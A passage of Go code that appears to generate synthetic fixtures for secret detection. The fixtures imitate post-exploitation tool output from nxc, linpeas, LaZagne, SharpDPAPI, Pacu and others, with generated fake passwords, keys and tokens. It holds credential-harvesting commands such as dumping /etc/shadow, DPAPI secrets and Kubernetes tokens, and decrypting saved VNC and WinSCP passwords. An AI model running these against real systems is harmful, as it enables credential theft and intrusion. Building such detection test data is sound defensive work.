	}(), "C:\\Windows\\Panther>", "<PlainText>false</PlainText>", "iconv -f utf-16le")

	g.add("sec/unattend-domain-join-plaintext", `
        <component name="Microsoft-Windows-UnattendedJoin" processorArchitecture="amd64" publicKeyToken="31bf3856ad364e35" language="neutral" versionScope="nonSxS">
            <Identification>
                <Credentials>
                    <Domain>megacorp.local</Domain>
                    <Password>«a»</Password>
                    <Username>svc_domainjoin</Username>
                </Credentials>
                <JoinDomain>megacorp.local</JoinDomain>
                <MachineObjectOU>OU=Staging,OU=Workstations,DC=megacorp,DC=local</MachineObjectOU>
            </Identification>
        </component>
`, V{"a": g.pwStrong()}, "Microsoft-Windows-UnattendedJoin", "publicKeyToken=\"31bf3856ad364e35\"", "<Username>svc_domainjoin</Username>")

	g.add("sec/sysprep-inf-admin-password", `
\\deploy01\REMINST\Sysprep\sysprep.inf:
[GuiUnattended]
    AdminPassword="«a»"
    EncryptedAdminPassword=NO
    OEMSkipRegional=1
    TimeZone=85
[Identification]
    JoinDomain=NORTHWIND
    DomainAdmin=svc_join
    DomainAdminPassword=«b»
`, V{"a": g.stHuman(), "b": g.pwStrong()}, "EncryptedAdminPassword=NO", "DomainAdmin=svc_join")

	g.add("sec/snaffler-webconfig-red", `
[NORTHWIND\m.kowalski@FIN-WS07] 2025-06-12 10:41:02Z [Share] {Green}<\\fs01.northwind.local\IT$>(R) IT deployment share
[NORTHWIND\m.kowalski@FIN-WS07] 2025-06-12 10:42:17Z [File] {Red}<KeepConfigRegexRed|R|connectionstring.{1,200}passw|2.4kB|2023-03-14 16:20:08Z>(\\fs01.northwind.local\IT$\Deploy\ERP\web.config) <add name="ErpDb" connectionString="Data Source=sql01.northwind.local;Initial Catalog=ERP_PROD;User ID=erp_app;Password=«a»;Encrypt=True" providerName="System.Data.SqlClient" />
[NORTHWIND\m.kowalski@FIN-WS07] 2025-06-12 10:42:55Z [File] {Black}<KeepExtExactBlack|R|^\.kdbx$|88.5kB|2024-11-30 09:02:44Z>(\\fs01.northwind.local\IT$\Tools\IT-Shared.kdbx) .kdbx
[NORTHWIND\m.kowalski@FIN-WS07] 2025-06-12 10:43:30Z [File] {Red}<KeepPassOrKeyInCode|R|passw?o?r?d\s*=\s*[\'\"][^\'\"]....|1.1kB|2022-01-09 12:00:41Z>(\\fs01.northwind.local\IT$\Scripts\map_drives.vbs) objNetwork.MapNetworkDrive "S:", "\\fs01\finance", False, "NORTHWIND\svc_map", "«b»"
`, V{"a": g.pwStrong(), "b": g.stHuman()}, "KeepExtExactBlack|R|^\\.kdbx$", "(\\\\fs01.northwind.local\\IT$\\Tools\\IT-Shared.kdbx)", "IT deployment share")

	g.add("sec/smbclient-share-password-percent", `
$ smbclient //10.1.1.30/Backups -U 'FABRIKAM/svc_backup%«a»' -c 'cd IIS\intranet; get web.config'
getting file \IIS\intranet\web.config of size 6120 as web.config (311.2 KiloBytes/sec) (average 311.2 KiloBytes/sec)
$ grep -n -i 'password\|machineKey' web.config
41:    <add key="LdapBindPassword" value="«b»" />
88:    <machineKey validationKey="«c»" decryptionKey="«=d»" validation="HMACSHA256" decryption="AES" />
`, V{"a": g.pwURL(), "b": g.stHuman(), "c": g.s(alHexU, 128), "=d": g.s(alHexU, 64)}, "validation=\"HMACSHA256\" decryption=\"AES\"", "\\IIS\\intranet\\web.config")

	g.add("sec/nxc-smb-dpapi-dump", `
$ nxc smb 10.50.1.0/24 -u Administrator -H «p» --local-auth --dpapi
SMB         10.50.1.31      445    JUMP01           [+] JUMP01\Administrator:«p» (Pwn3d!)
SMB         10.50.1.31      445    JUMP01           [*] Collecting User and Machine masterkeys, grab a coffee and be patient...
SMB         10.50.1.31      445    JUMP01           [+] Got 14 decrypted masterkeys. Looting secrets...
SMB         10.50.1.31      445    JUMP01           [CREDENTIAL] Domain:target=TERMSRV/db-prod-01.megacorp.local - MEGACORP\adm.jlee:«a»
SMB         10.50.1.31      445    JUMP01           [GOOGLE CHROME] https://vcenter.megacorp.local/ui/login - administrator@vsphere.local:«b»
SMB         10.50.1.31      445    JUMP01           [SYSTEM][CREDENTIAL] Domain:batch=TaskScheduler:Task:{«_tg»} - MEGACORP\svc_sched:«=c»
`, V{"p": g.stNT(), "a": g.pwStrong(), "b": g.stHuman(), "_tg": strings.ToUpper(g.uuid()), "=c": g.stHuman()}, "[+] Got 14 decrypted masterkeys. Looting secrets...", "administrator@vsphere.local:")

	g.add("sec/nxc-gpp-autologin-registry-xml", `
$ nxc smb 10.0.0.10 -u j.rivera -p '«p»' -M gpp_autologin
SMB         10.0.0.10       445    DC01             [+] contoso.local\j.rivera:«p» 
GPP_AUTO... 10.0.0.10       445    DC01             [+] Found SYSVOL share
GPP_AUTO... 10.0.0.10       445    DC01             [*] Searching for Registry.xml
GPP_AUTO... 10.0.0.10       445    DC01             [*] Found contoso.local/Policies/{«_g»}/Machine/Preferences/Registry/Registry.xml
GPP_AUTO... 10.0.0.10       445    DC01             [+] Found credentials in contoso.local/Policies/{«_g»}/Machine/Preferences/Registry/Registry.xml
GPP_AUTO... 10.0.0.10       445    DC01             Usernames: ['kiosk']
GPP_AUTO... 10.0.0.10       445    DC01             Domains: ['CONTOSO']
GPP_AUTO... 10.0.0.10       445    DC01             Passwords: ['«a»']
`, V{"p": g.stHuman(), "_g": strings.ToUpper(g.uuid()), "a": g.stHuman()}, "GPP_AUTO... 10.0.0.10       445    DC01             Usernames: ['kiosk']", "-M gpp_autologin")
}

func (g *G) stLinux() {
	g.add("sec/etc-shadow-after-privesc", `
root@web-prd-03:/tmp# cat /etc/shadow
root:«a»:19875:0:99999:7:::
daemon:*:19480:0:99999:7:::
bin:*:19480:0:99999:7:::
www-data:*:19480:0:99999:7:::
sshd:*:19480:0:99999:7:::
ubuntu:!:19480:0:99999:7:::
deploy:«b»:20011:0:99999:7:::
nagios:!!:19890::::::
`, V{"a": g.stYescrypt(), "b": g.stSHA512Crypt()}, "root@web-prd-03:/tmp# cat /etc/shadow", "daemon:*:19480:0:99999:7:::", "nagios:!!:19890::::::")

	g.add("sec/bash-history-passwords", `
www-data@web-prd-03:/home/deploy$ cat .bash_history
cd /var/www/shop
git pull
sudo systemctl restart php8.1-fpm
mysql -u shop -p«a» shop_prod -e 'show tables'
sshpass -p '«b»' scp backup.tar.gz backup@10.9.0.20:/srv/backups/
curl -u admin:«c» http://localhost:15672/api/overview
history -c
exit
`, V{"a": g.pwURL(), "b": g.stHuman(), "c": g.pwURL()}, "sudo systemctl restart php8.1-fpm", "scp backup.tar.gz backup@10.9.0.20:/srv/backups/")

	g.add("sec/linpeas-env-and-aws-credentials", `
╔══════════╣ Analyzing Env Files (limit 70)
-rw-r--r-- 1 www-data www-data 1297 Mar  4  2024 /var/www/shop/.env
APP_ENV=production
APP_DEBUG=false
DB_HOST=10.9.0.31
DB_USERNAME=shop
DB_PASSWORD=«a»
MAIL_PASSWORD=null

╔══════════╣ Analyzing Cloud Credentials Files (limit 70)
-rw------- 1 deploy deploy 116 Jan 11  2024 /home/deploy/.aws/credentials
[default]
aws_access_key_id = «=id»
aws_secret_access_key = «b»

╔══════════╣ Searching root files in home dirs (limit 30)
/home/
/root/
`, V{"a": g.pwURL(), "=id": g.awsID(), "b": g.awsSecret()}, "╔══════════╣ Analyzing Cloud Credentials Files (limit 70)", "MAIL_PASSWORD=null", "DB_HOST=10.9.0.31")

	k, pub := g.sshEd25519("deploy@ci-runner")
	g.add("sec/linpeas-ssh-private-key-found", `
╔══════════╣ Searching ssl/ssh files
╔══════════╣ Analyzing SSH Files (limit 70)

-rw------- 1 deploy deploy 411 Feb  2  2024 /home/deploy/.ssh/id_ed25519
`+k.begin+`
«a»
`+k.end+`

-rw-r--r-- 1 deploy deploy 98 Feb  2  2024 /home/deploy/.ssh/id_ed25519.pub
«_pub» deploy@ci-runner

ChallengeResponseAuthentication no
UsePAM yes
PasswordAuthentication no
`, V{"a": k.body, "_pub": pub}, "/home/deploy/.ssh/id_ed25519.pub", "PasswordAuthentication no")

	g.add("sec/linpeas-config-php-passwords", `
╔══════════╣ Searching passwords in config PHP files
/var/www/blog/wp-config.php:define( 'DB_PASSWORD', '«a»' );
/var/www/blog/wp-config.php:define( 'DB_USER', 'wp_blog' );
/var/www/legacy/includes/config.inc.php:$dbpass = "«b»";
/var/www/legacy/includes/config.inc.php:$dbuser = "legacy";
`, V{"a": g.pwStrong(), "b": g.pwURL()}, "╔══════════╣ Searching passwords in config PHP files", "define( 'DB_USER', 'wp_blog' );")

	g.add("sec/pspy-cron-cmdline-password", `
$ ./pspy64 -pf -i 1000
pspy - version: v1.2.1 - Commit SHA: «=sha»

     ██▓███    ██████  ██▓███ ▓██   ██▓
    ▓██░  ██▒▒██    ▒ ▓██░  ██▒▒██  ██▒
    ▓██░ ██▓▒░ ▓██▄   ▓██░ ██▓▒ ▒██ ██░
    ▒██▄█▓▒ ▒  ▒   ██▒▒██▄█▓▒ ▒ ░ ▐██▓░
    ▒██▒ ░  ░▒██████▒▒▒██▒ ░  ░ ░ ██▒▓░

Config: Printing events (colored=true): processes=true | file-system-events=true ||| Scanning for processes every 1s and on inotify events ||| Watching directories: [/usr /tmp /etc /home /var /opt] (recursive) | [] (non-recursive)
2025/06/12 11:01:01 CMD: UID=0     PID=28811  | /usr/sbin/CRON -f -P 
2025/06/12 11:01:01 CMD: UID=0     PID=28812  | /bin/sh -c /usr/bin/mysqldump -u root -p'«a»' --all-databases | gzip > /srv/backups/db-$(date +\%F).sql.gz 
2025/06/12 11:01:01 CMD: UID=0     PID=28814  | gzip 
2025/06/12 11:01:03 CMD: UID=0     PID=28820  | /usr/bin/rsync -a /srv/backups/ rsync://backup@10.9.0.20/nightly --password-file=/root/.rsync.pass 
`, V{"a": g.pwStrong(), "=sha": g.gitSHA()}, "pspy - version: v1.2.1", "--password-file=/root/.rsync.pass", "/usr/sbin/CRON -f -P")

	g.add("sec/proc-environ-dump", `
www-data@app-02:/$ cat /proc/$(pgrep -f 'gunicorn: master')/environ | tr '\0' '\n' | sort
HOME=/home/app
LANG=C.UTF-8
PATH=/opt/app/venv/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin
DATABASE_URL=postgres://app:«a»@10.9.0.31:5432/app
DJANGO_SETTINGS_MODULE=config.settings.prod
SENTRY_ENVIRONMENT=prod
STRIPE_SECRET_KEY=«b»
`, V{"a": g.pwURL(), "b": g.skLive()}, "DJANGO_SETTINGS_MODULE=config.settings.prod", "SENTRY_ENVIRONMENT=prod")

	g.add("sec/docker-inspect-env-on-host", `
root@docker-01:~# docker inspect --format '{{range .Config.Env}}{{println .}}{{end}}' keycloak
KC_DB=postgres
KC_DB_URL=jdbc:postgresql://pg-01:5432/keycloak
KC_DB_USERNAME=keycloak
KC_DB_PASSWORD=«a»
KEYCLOAK_ADMIN=admin
KEYCLOAK_ADMIN_PASSWORD=«b»
PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
`, V{"a": g.pwStrong(), "b": g.stHuman()}, "KC_DB_URL=jdbc:postgresql://pg-01:5432/keycloak", "KEYCLOAK_ADMIN=admin")

	key := g.rsaPEM()
	g.add("sec/found-id-rsa-in-backup", `
$ find / -name 'id_rsa*' -readable 2>/dev/null
/opt/backup/home/jenkins/.ssh/id_rsa
/opt/backup/home/jenkins/.ssh/id_rsa.pub
$ head -c 300 /opt/backup/home/jenkins/.ssh/id_rsa; echo; ssh -i /opt/backup/home/jenkins/.ssh/id_rsa jenkins@10.9.0.15 id
`+key.begin+`
«a»
uid=115(jenkins) gid=120(jenkins) groups=120(jenkins),998(docker)
`, V{"a": key.body[:236]}, "/opt/backup/home/jenkins/.ssh/id_rsa.pub", "groups=120(jenkins),998(docker)")

	g.add("sec/k8s-pod-serviceaccount-token", `
root@orders-api-7c9f8d6b5-x2kqj:/# TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); echo $TOKEN
«a»
root@orders-api-7c9f8d6b5-x2kqj:/# curl -sk -H "Authorization: Bearer $TOKEN" https://kubernetes.default.svc/api/v1/namespaces/ci/secrets | jq -r '.items[].metadata.name'
registry-pull
deploy-bot-kubeconfig
`, V{"a": g.k8sSAToken()}, "curl -sk -H \"Authorization: Bearer $TOKEN\"", "deploy-bot-kubeconfig")

	g.add("sec/ansible-vault-pass-file", `
deploy@ci-runner:~$ ls -la ~/infra
-rw------- 1 deploy deploy   29 Aug 14  2023 .vault_pass
-rw-r--r-- 1 deploy deploy  211 Aug 14  2023 ansible.cfg
drwxr-xr-x 4 deploy deploy 4096 May 30 09:12 group_vars
deploy@ci-runner:~$ cat ~/infra/.vault_pass
«a»
deploy@ci-runner:~$ ansible-vault view --vault-password-file ~/infra/.vault_pass ~/infra/group_vars/prod/vault.yml
vault_postgres_password: «b»
vault_grafana_admin_password: «c»
`, V{"a": g.pwStrong(), "b": g.pwStrong(), "c": g.stHuman()}, "ansible-vault view --vault-password-file ~/infra/.vault_pass", "-rw-r--r-- 1 deploy deploy  211 Aug 14  2023 ansible.cfg")

	g.add("sec/mysql-history-octal-escapes", `
$ cat /root/.mysql_history
_HiStOrY_V2_
show\040databases;
use\040shop_prod;
CREATE\040USER\040'reporting'@'10.9.0.%'\040IDENTIFIED\040BY\040'«a»';
GRANT\040SELECT\040ON\040shop_prod.*\040TO\040'reporting'@'10.9.0.%';
SET\040PASSWORD\040FOR\040'root'@'localhost'\040=\040PASSWORD('«b»');
flush\040privileges;
`, V{"a": g.pwURL(), "b": g.pwURL()}, "_HiStOrY_V2_", "GRANT\\040SELECT\\040ON\\040shop_prod.*")

	g.add("sec/git-credentials-found", `
www-data@build-01:/home/dev$ cat .git-credentials .gitconfig
https://dev-bot:«a»@github.com
https://oauth2:«b»@gitlab.internal.example
[user]
	name = Dev Bot
	email = dev-bot@internal.example
[credential]
	helper = store
`, V{"a": g.ghp(), "b": g.glpat()}, "helper = store", "email = dev-bot@internal.example")
}

func (g *G) stWindows() {
	g.add("sec/winpeas-autologon-mojibake", `
C:\Users\Public> winPEASx64.exe quiet windowscreds > wp.txt & type wp.txt
ÉÍÍÍÍÍÍÍÍÍ¹ Looking for AutoLogon credentials
    Some AutoLogon credentials were found
    DefaultDomainName             :  NORTHWIND
    DefaultUserName               :  kiosk.lobby
    DefaultPassword               :  «a»

ÉÍÍÍÍÍÍÍÍÍ¹ Home folders found
    C:\Users\Administrator
    C:\Users\All Users
    C:\Users\kiosk.lobby : kiosk.lobby [AllAccess]

ÉÍÍÍÍÍÍÍÍÍ¹ Looking for saved Wifi credentials
    SSID         : NW-Guest
    password     : «b»
`, V{"a": g.stHuman(), "b": strings.ToLower(g.pick(pwWords...)) + g.s(alDigit, 4)}, "Looking for AutoLogon credentials", "DefaultUserName               :  kiosk.lobby", "SSID         : NW-Guest")

	g.add("sec/reg-query-winlogon-defaultpassword", `
C:\> reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" | findstr /i "Default AutoAdmin"
    AutoAdminLogon    REG_SZ    1
    DefaultDomainName    REG_SZ    FABRIKAM
    DefaultUserName    REG_SZ    svc_signage
    DefaultPassword    REG_SZ    «a»
`, V{"a": g.stHuman()}, "AutoAdminLogon    REG_SZ    1", "DefaultUserName    REG_SZ    svc_signage")

	g.add("sec/psreadline-history", `
PS C:\Users\adm.jlee> type $env:APPDATA\Microsoft\Windows\PowerShell\PSReadLine\ConsoleHost_history.txt
Get-ADUser -Filter * -SearchBase "OU=Leavers,DC=megacorp,DC=local" | Disable-ADAccount
$pw = ConvertTo-SecureString '«a»' -AsPlainText -Force
$cred = New-Object System.Management.Automation.PSCredential('MEGACORP\svc_sccm_na', $pw)
Invoke-Command -ComputerName SCCM01 -Credential $cred -ScriptBlock { Restart-Service SMS_EXECUTIVE }
Set-ADAccountPassword -Identity t.ahmed -Reset -NewPassword (ConvertTo-SecureString -AsPlainText "«b»" -Force)
Enter-PSSession -ComputerName db-prod-01
`, V{"a": g.pwStrong(), "b": g.stSeason()}, "ConsoleHost_history.txt", "Invoke-Command -ComputerName SCCM01 -Credential $cred", "Enter-PSSession -ComputerName db-prod-01")

	g.add("sec/sessiongopher-winscp-putty", `
PS C:\Temp> Invoke-SessionGopher -Thorough
          o_
         /  ".   SessionGopher
       ,"  _-"
     ,"   m m
  ..+     )      Brandon Arvanaghi
     '.m__m      Twitter: @arvanaghi

[+] Digging on LT-0871...
WinSCP Sessions

Source   : LT-0871\a.moreau
Session  : ops@bastion.fabrikam.com
Hostname : bastion.fabrikam.com
Username : ops
Password : «a»

PuTTY Sessions

Source   : LT-0871\a.moreau
Session  : core-sw01
Hostname : 10.1.0.2

FileZilla Sessions

Source   : LT-0871\a.moreau
Name     : marketing-ftp
Password : «b»
Host     : ftp.fabrikam-media.com
User     : fabmkt
Protocol : Use FTP over TLS if available
Port     : 21
`, V{"a": g.pwURL(), "b": g.stHuman()}, "Hostname : bastion.fabrikam.com", "Session  : core-sw01", "Protocol : Use FTP over TLS if available")

	g.add("sec/sharpdpapi-triage-machine", `
C:\Temp> SharpDPAPI.exe machinetriage

  __                 _   _       _ ___ 
 (_  |_   _. ._ ._   | \ |_) /\  |_) |  
 __) | | (_| |  |_)  |_/ |  /--\ |  _|_ 
                |                      
  v1.20.0


[*] Action: Machine DPAPI Credential, Vault, and Certificate Triage

[*] Elevating to SYSTEM via token duplication for LSA secret retrieval
[*] RevertToSelf()

[*] Secret  : DPAPI_SYSTEM
[*]    full: «=full»
[*]    m/u : «=m» / «=u»

[*] SHA1 Master Key cache:

{«_g1»}:«a»
{«_g2»}:«=k2»

[*] Triaging System Credentials

Folder       : C:\WINDOWS\System32\config\systemprofile\AppData\Local\Microsoft\Credentials

  CredFile           : «_cf»

    guidMasterKey    : {«_g1»}
    size             : 576
    flags            : 0x20000000 (CRYPTPROTECT_SYSTEM)
    algHash/algCrypt : 32782 (CALG_SHA_512) / 26128 (CALG_AES_256)
    description      : Local Credential Data

    LastWritten      : 3/2/2025 6:14:22 AM
    TargetName       : Domain:batch=TaskScheduler:Task:{«_t»}
    TargetAlias      : 
    Comment          : 
    UserName         : MEGACORP\svc_sqlagent
    Credential       : «b»
`, V{"=full": g.s(alHexU, 80), "=m": g.s(alHexU, 40), "=u": g.s(alHexU, 40), "_g1": g.uuid(), "a": g.s(alHexU, 40), "_g2": g.uuid(), "=k2": g.s(alHexU, 40),
		"_cf": g.s(alHexU, 32), "_t": strings.ToUpper(g.uuid()), "b": g.pwStrong()}, "[*] Action: Machine DPAPI Credential, Vault, and Certificate Triage", "UserName         : MEGACORP\\svc_sqlagent")

	g.add("sec/winscp-ini-obfuscated-password", `
PS C:\Users\r.patel\AppData\Roaming> Select-String -Path .\WinSCP.ini -Pattern 'HostName|UserName|Password'

WinSCP.ini:14:HostName=sftp.payroll-partner.example
WinSCP.ini:15:UserName=contoso_payroll
WinSCP.ini:16:Password=«a»

$ winscppwd contoso_payroll sftp.payroll-partner.example «a»
«b»
`, V{"a": g.s(alHexU, 72+2*g.r.IntN(12)), "b": g.stHuman()}, "WinSCP.ini:14:HostName=sftp.payroll-partner.example", "UserName=contoso_payroll")

	g.add("sec/filezilla-sitemanager-base64", `
C:\Users\a.moreau\AppData\Roaming\FileZilla> type sitemanager.xml
<?xml version="1.0" encoding="UTF-8"?>
<FileZilla3 version="3.67.0" platform="windows">
	<Servers>
		<Server>
			<Host>ftp.fabrikam-media.com</Host>
			<Port>21</Port>
			<Protocol>0</Protocol>
			<Type>0</Type>
			<User>fabmkt</User>
			<Pass encoding="base64">«a»</Pass>
			<Logontype>1</Logontype>
			<Name>marketing-ftp</Name>
		</Server>
	</Servers>
</FileZilla3>
`, V{"a": b64s(g.stHuman())}, "<FileZilla3 version=\"3.67.0\" platform=\"windows\">", "<Name>marketing-ftp</Name>")

	g.add("sec/mremoteng-confcons-decrypt", `
$ grep -o 'Name="[^"]*"\|Username="[^"]*"\|Hostname="[^"]*"\|Password="[^"]*"' confCons.xml | head -8
Name="db-prod-01"
Username="adm.jlee"
Hostname="db-prod-01.megacorp.local"
Password="«a»"
$ python3 mremoteng_decrypt.py -s '«a»'
Password: «b»
`, V{"a": g.b64(64), "b": g.pwStrong()}, "Hostname=\"db-prod-01.megacorp.local\"", "mremoteng_decrypt.py")

	g.add("sec/iis-appcmd-apppool-identity", `
C:\Windows\System32\inetsrv> appcmd list apppool "ClaimsPortal" /text:processModel.userName & appcmd list apppool "ClaimsPortal" /text:processModel.password
CONTOSO\svc_claims
«a»
`, V{"a": g.pwStrong()}, "appcmd list apppool \"ClaimsPortal\" /text:processModel.userName", "CONTOSO\\svc_claims")

	g.add("sec/vnc-registry-password-decode", `
C:\> reg query HKLM\SOFTWARE\TightVNC\Server /v Password

HKEY_LOCAL_MACHINE\SOFTWARE\TightVNC\Server
    Password    REG_BINARY    «a»

$ echo -n «a» | xxd -r -p | openssl enc -des-cbc --nopad --nosalt -K e84ad660c4721ae0 -iv 0000000000000000 -d -provider legacy -provider default | hexdump -C
00000000  «=hx»                           |«b»|
00000008
`, func() V {
		b := g.s(alAlnum, 8)
		return V{"a": g.s(alHexU, 16), "=hx": stSpacedHexOf(b[:8]), "b": b}
	}(), "-K e84ad660c4721ae0", "HKEY_LOCAL_MACHINE\\SOFTWARE\\TightVNC\\Server")

	g.add("sec/lazagne-all-wifi-sysadmin", `
C:\Temp> laZagne.exe all -oN -output C:\Temp\lz

|====================================================================|
|                                                                    |
|                        The LaZagne Project                         |
|                                                                    |
|                          ! BANG BANG !                             |
|                                                                    |
|====================================================================|

[+] System masterkey decrypted for 7b3e1c1a-5d21-4cf1-9a77-8d0f7d6f2a11

########## User: SYSTEM ##########

------------------- Wifi passwords -----------------

[+] Password found !!!
SSID: MEGACORP-CORP
Authentication: WPA2PSK
Protocol: AES
Password: «a»

########## User: adm.jlee ##########

------------------- Winscp passwords -----------------

[+] Password found !!!
URL: 10.50.8.14
Login: root
Password: «b»
Port: 22

[+] 2 passwords have been found.
For more information launch it again with the -v option
`, V{"a": g.pwStrong(), "b": g.pwURL()}, "SSID: MEGACORP-CORP", "[+] 2 passwords have been found.", "Authentication: WPA2PSK")
}

func (g *G) stCloud() {
	g.add("sec/scoutsuite-results-lambda-env", `
$ grep -o '"environment_variables": {[^}]*}' scoutsuite-report/scoutsuite-results/scoutsuite_results_aws-731204418822.js | head -3
"environment_variables": {"LOG_LEVEL": "info", "STAGE": "prod"}
"environment_variables": {"SLACK_WEBHOOK": "https://hooks.slack.com/services/«=t»/«=b»/«a»", "STAGE": "prod"}
"environment_variables": {"DB_HOST": "billing.cluster-c8x1.eu-west-1.rds.amazonaws.com", "DB_USER": "billing_rw", "DB_PASSWORD": "«b»"}
`, V{"=t": g.slackT(), "=b": g.slackB(), "a": g.an(24), "b": g.pwStrong()}, "scoutsuite_results_aws-731204418822.js", "\"DB_USER\": \"billing_rw\"")

	g.add("sec/pacu-set-keys-session", `
Pacu (acme-prod-assess:No Keys Set) > set_keys
Setting AWS Keys...
Press enter to keep the value currently stored.
Enter the letter C to clear the value, rather than set it.
If you enter an existing key_alias, that key's fields will be updated instead of added.
Key alias must be at least 2 characters

Key alias [None]: leaked-ci
Access key ID [None]: «=id»
Secret access key [None]: «a»
Session token (Optional - for temp AWS keys) [None]: 

Keys saved to database.

Pacu (acme-prod-assess:leaked-ci) > whoami
{
  "UserName": null,
  "RoleName": null,
  "Arn": null,
  "AccountId": null,
  "UserId": null,
  "Roles": null,
  "Groups": null,
  "Policies": null,
  "AccessKeyId": "«=id»",
  "SecretAccessKey": "********************************",
  "SessionToken": null,
  "KeyAlias": "leaked-ci",
  "PermissionsConfirmed": null,
  "Permissions": {
    "Allow": {},
    "Deny": {}
  }
}
`, V{"=id": g.awsID(), "a": g.awsSecret()}, "\"SecretAccessKey\": \"********************************\"", "Pacu (acme-prod-assess:leaked-ci) > whoami", "Key alias [None]: leaked-ci")

	g.add("sec/prowler-finding-then-lambda-config", `
$ prowler aws --checks awslambda_function_no_secrets_in_variables -f eu-west-1 --output-modes csv
...
FAIL eu-west-1: Potential secret found in Lambda function invoice-export variables -> Secret Keyword in variable DB_PASS.
$ aws lambda get-function-configuration --function-name invoice-export --query 'Environment.Variables'
{
    "DB_HOST": "billing.cluster-c8x1.eu-west-1.rds.amazonaws.com",
    "DB_PASS": "«a»",
    "SFTP_KEY_B64": "«b»",
    "STAGE": "prod"
}
`, V{"a": g.pwStrong(), "b": b64s(g.rsaPEM().block())[:200]}, "awslambda_function_no_secrets_in_variables", "Secret Keyword in variable DB_PASS.")

	g.add("sec/enumerate-iam-run", `
$ ./enumerate-iam.py --access-key «=id» --secret-key «a»
2025-06-12 12:10:41,201 - 41023 - [INFO] Starting permission enumeration for access-key-id "«=id»"
2025-06-12 12:10:42,019 - 41023 - [INFO] -- Account ARN : arn:aws:iam::731204418822:user/svc-artifact-sync
2025-06-12 12:10:42,019 - 41023 - [INFO] -- Account Id  : 731204418822
2025-06-12 12:10:42,020 - 41023 - [INFO] -- Account Path: user/svc-artifact-sync
2025-06-12 12:10:42,311 - 41023 - [INFO] Attempting common-service describe / list brute force.
2025-06-12 12:10:44,874 - 41023 - [INFO] -- s3.list_buckets() worked!
2025-06-12 12:10:45,102 - 41023 - [INFO] -- sts.get_caller_identity() worked!
2025-06-12 12:10:47,553 - 41023 - [INFO] -- ecr.describe_repositories() worked!
`, V{"=id": g.awsID(), "a": g.awsSecret()}, "arn:aws:iam::731204418822:user/svc-artifact-sync", "-- s3.list_buckets() worked!")

	g.add("sec/cloudfox-env-vars-table", `
$ cloudfox aws --profile assess env-vars
[🦊 cloudfox v1.15.0 🦊 ][assess] AWS Caller Identity: arn:aws:sts::731204418822:assumed-role/SecurityAudit/assess
[env-vars][assess] Enumerating environment variables in all regions for account 731204418822.
╭────────────┬───────────┬─────────────────────────┬─────────────────┬──────────────────────────────────────╮
│  Service   │  Region   │          Name           │       Key       │                Value                 │
├────────────┼───────────┼─────────────────────────┼─────────────────┼──────────────────────────────────────┤
│ Lambda     │ eu-west-1 │ invoice-export          │ STAGE           │ prod                                 │
│ Lambda     │ eu-west-1 │ github-webhook-relay    │ GH_TOKEN        │ «a» │
│ ECS        │ eu-west-1 │ api-task:41             │ JWT_SIGNING_KEY │ «b»     │
╰────────────┴───────────┴─────────────────────────┴─────────────────┴──────────────────────────────────────╯
[env-vars][assess] Output written to [cloudfox-output/aws/assess-731204418822/table/env-vars.txt]
`, V{"a": g.ghp(), "b": g.an(32)}, "cloudfox-output/aws/assess-731204418822/table/env-vars.txt", "│ Lambda     │ eu-west-1 │ invoice-export          │ STAGE")

	g.add("sec/aws-sts-session-from-leaked-key", `
$ AWS_ACCESS_KEY_ID=«=id» AWS_SECRET_ACCESS_KEY=«a» aws sts get-session-token --duration-seconds 129600
{
    "Credentials": {
        "AccessKeyId": "«=tid»",
        "SecretAccessKey": "«b»",
        "SessionToken": "«c»",
        "Expiration": "2025-06-14T00:20:11+00:00"
    }
}
`, V{"=id": g.awsID(), "a": g.awsSecret(), "=tid": g.awsTempID(), "b": g.awsSecret(), "c": g.awsSession()}, "--duration-seconds 129600", "\"Expiration\": \"2025-06-14T00:20:11+00:00\"")

	gk := g.pkcs8RSAPEM()
	g.add("sec/gcp-sa-key-in-public-bucket", `
$ gsutil ls gs://acme-tf-artifacts-dev/
gs://acme-tf-artifacts-dev/modules/
gs://acme-tf-artifacts-dev/terraform-sa.json
$ gsutil cat gs://acme-tf-artifacts-dev/terraform-sa.json
{
  "type": "service_account",
  "project_id": "acme-platform-dev",
  "private_key_id": "«=kid»",
  "private_key": "`+gk.begin+`\n«a»\n`+gk.end+`\n",
  "client_email": "terraform@acme-platform-dev.iam.gserviceaccount.com",
  "client_id": "«=cid»",
  "auth_uri": "https://accounts.google.com/o/oauth2/auth",
  "token_uri": "https://oauth2.googleapis.com/token",
  "auth_provider_x509_cert_url": "https://www.googleapis.com/oauth2/v1/certs",
  "client_x509_cert_url": "https://www.googleapis.com/robot/v1/metadata/x509/terraform%40acme-platform-dev.iam.gserviceaccount.com",
  "universe_domain": "googleapis.com"
}
`, V{"=kid": g.hex(40), "a": jsonEsc(gk.body), "=cid": g.digits(21)}, "terraform@acme-platform-dev.iam.gserviceaccount.com", "gs://acme-tf-artifacts-dev/modules/")

	g.add("sec/microburst-get-azpasswords", `
PS C:\Tools\MicroBurst> Get-AzPasswords -Verbose -Keys Y -AppServices Y -AutomationAccounts Y | Format-Table -AutoSize
VERBOSE: Logged In as assess@contoso.onmicrosoft.com
VERBOSE: Getting List of Azure Storage Accounts...
VERBOSE: 	Getting the Storage Account keys for the ctsoprodlogs account
VERBOSE: Getting List of Azure Automation Accounts...
VERBOSE: 	Getting the RunAs certificate for aa-ops using the ops-runbooks runbook

Type           Name             Username       Value                                                                                      PublicURL                               
----           ----             --------       -----                                                                                      ---------                               
Storage Account ctsoprodlogs     key1           «a»                                                                                        https://ctsoprodlogs.blob.core.windows.net/
Automation     aa-ops           svc-patching   «b»                                                                                        N/A                                     
AppService     contoso-intranet $contoso-intranet «=c»                                                                                      contoso-intranet.scm.azurewebsites.net
`, V{"a": g.azStorage(), "b": g.stHuman(), "=c": g.an(60)}, "VERBOSE: Logged In as assess@contoso.onmicrosoft.com", "https://ctsoprodlogs.blob.core.windows.net/")

	tid := g.uuid()
	g.add("sec/roadtx-gettokens-auth-file", `
$ roadtx gettokens -u l.haddad@contoso.com -p '«p»' -r msgraph -c 1950a258-227b-4e31-a9cf-717495945fc2
Requesting token for resource https://graph.microsoft.com
Tokens were written to .roadtools_auth
$ jq . .roadtools_auth
{
  "tokenType": "Bearer",
  "expiresOn": "2025-06-12 13:40:22",
  "tenantId": "«_tid»",
  "_clientId": "1950a258-227b-4e31-a9cf-717495945fc2",
